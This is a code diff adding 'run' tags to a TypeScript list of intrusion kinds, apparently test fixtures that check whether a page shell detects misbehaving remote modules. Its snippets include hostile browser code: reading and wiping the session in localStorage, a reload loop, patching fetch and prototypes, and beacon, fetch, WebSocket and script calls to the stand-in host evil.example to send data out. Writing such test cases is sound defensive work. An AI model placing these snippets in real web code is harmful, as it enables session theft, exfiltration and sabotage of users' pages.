@@ -25,6 +25,7 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'adopted style sheet',
     wrong: 'adopts a style sheet for the whole document',
     files: ['shell-access'],
+    run: ['global-css', 'layout'],
     spoil: code({
       effect:
         'const sheet=new CSSStyleSheet;sheet.replaceSync("header{display:none}");document.adoptedStyleSheets=[sheet]',
@@ -34,6 +35,7 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'style with a copied nonce',
     wrong: 'adds a style element with the page’s nonce',
     files: [],
+    run: ['policy'],
     spoil: code({
       effect:
         'const style=document.createElement("style");style.nonce=document.querySelector("[nonce]")?.nonce??"";style.textContent="header{display:none}";document.head.append(style)',
@@ -43,6 +45,7 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'clears the body',
     wrong: 'removes everything',
     files: ['shell-access'],
+    run: ['layout', 'shell-access'],
     spoil: code({ effect: 'document.body.replaceChildren()' }),
   },
   {
@@ -63,6 +66,7 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'overlay',
     wrong: 'lays an element over the page',
     files: ['shell-access'],
+    run: ['cleanup', 'layout'],
     spoil: code({
       effect:
         'const over=document.createElement("div");Object.assign(over.style,{position:"fixed",inset:0,zIndex:99999});document.body.append(over)',
@@ -72,6 +76,7 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'patches Array.prototype.map',
     wrong: 'replaces a method of all arrays',
     files: ['intrinsic'],
+    run: ['intrinsic'],
     spoil: code({
       module: 'const map=Array.prototype.map;Array.prototype.map=function(...given){return map.apply(this,given)}',
     }),
@@ -80,12 +85,14 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'adds to Object.prototype',
     wrong: 'gives every object a property',
     files: ['intrinsic'],
+    run: ['intrinsic'],
     spoil: code({ module: 'Object.defineProperty(Object.prototype,"probe",{value:1,configurable:true})' }),
   },
   {
     name: 'patches history',
     wrong: 'replaces how the shell changes addresses',
     files: ['intrinsic'],
+    run: ['intrinsic'],
     spoil: code({
       module: 'const push=history.pushState;history.pushState=function(...given){return push.apply(this,given)}',
     }),
@@ -94,36 +101,42 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'writes the history',
     wrong: 'changes the address by itself',
     files: ['shell-access'],
+    run: ['shell-access'],
     spoil: code({ effect: 'history.replaceState(null,"","/slots")' }),
   },
   {
     name: 'sets the title',
     wrong: 'sets the title of the page',
     files: ['shell-access'],
+    run: ['shell-access'],
     spoil: code({ effect: 'document.title="Probe wins"' }),
   },
   {
     name: 'reload loop',
     wrong: 'loads the page again, and again',
     files: ['shell-access'],
+    run: ['shell-access'],
     spoil: code({ effect: 'setTimeout(()=>location.reload(),50)' }),
   },
   {
     name: 'overwrites storage',
     wrong: 'overwrites what the shell keeps',
     files: ['shell-access'],
+    run: ['shell-access'],
     spoil: code({ effect: 'localStorage.setItem("marquee.session","{}")' }),
   },
   {
     name: 'clears storage',
     wrong: 'removes what the shell keeps',
     files: ['shell-access'],
+    run: ['shell-access'],
     spoil: code({ effect: 'localStorage.clear()' }),
   },
   {
     name: 'reads the session',
     wrong: 'reads the session from storage',
     files: ['shell-access'],
+    run: ['shell-access'],
     spoil: code({ effect: 'const seen=localStorage.getItem("marquee.session")' }),
   },
   {
@@ -139,6 +152,7 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'script of another host',
     wrong: 'sends what it has read away by a script’s address',
     files: ['foreign-origin'],
+    run: ['policy'],
     spoil: code({
       effect:
         'try{const s=document.createElement("script");s.src="https://evil.example/a.js?t=1";document.head.append(s)}catch{}',
@@ -154,12 +168,14 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'opens a window',
     wrong: 'opens a window of another site',
     files: ['foreign-origin'],
+    run: ['foreign-origin'],
     spoil: code({ effect: 'open("https://evil.example/?t=1")' }),
   },
   {
     name: 'asks another host',
     wrong: 'sends requests to another host',
     files: ['foreign-origin'],
+    run: ['foreign-origin'],
     spoil: code({ effect: 'fetch("https://evil.example/?t=1").catch(()=>{})' }),
   },
   {
@@ -173,18 +189,21 @@ export const intrusionKinds: readonly Kind[] = [
     name: 'beacon',
     wrong: 'sends a beacon to another host',
     files: ['foreign-origin'],
+    run: ['foreign-origin'],
     spoil: code({ effect: 'navigator.sendBeacon("https://evil.example/","t")' }),
   },
   {
     name: 'socket',
     wrong: 'opens a socket to another host',
     files: ['foreign-origin'],
+    run: ['foreign-origin'],
     spoil: code({ effect: 'try{new WebSocket("wss://evil.example/")}catch{}' }),
   },
   {
     name: 'patches fetch',
     wrong: 'replaces the page’s fetch; another remote is blamed for what fails',
     files: ['intrinsic'],
+    run: ['intrinsic'],
     spoil: code({ module: 'globalThis.fetch=()=>Promise.reject(Error("spoiled fetch"))' }),
   },
   {
